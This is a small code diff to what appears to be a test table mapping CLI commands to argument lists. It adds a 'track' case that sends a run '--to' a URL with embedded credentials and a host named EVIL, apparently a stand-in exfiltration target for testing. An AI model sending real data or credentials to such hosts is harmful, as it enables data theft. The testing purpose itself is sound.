@@ -218,6 +218,11 @@ COMMANDS: dict[str, Callable[[Stage], list[Arguments]]] = {
         ["archive", stage.run],
     ],
     "fetch": fetches,
+    "ui": lambda stage: [["ui", stage.run], ["ui", stage.folder], ["ui", stage.folder / NAME]],
+    "track": lambda stage: [
+        ["track", stage.folder / NAME],
+        ["track", stage.run, "--to", f"http://me:word@{EVIL}"],
+    ],
     "docs": lambda stage: [["docs"]],
     "version": lambda stage: [["version"]],
 }
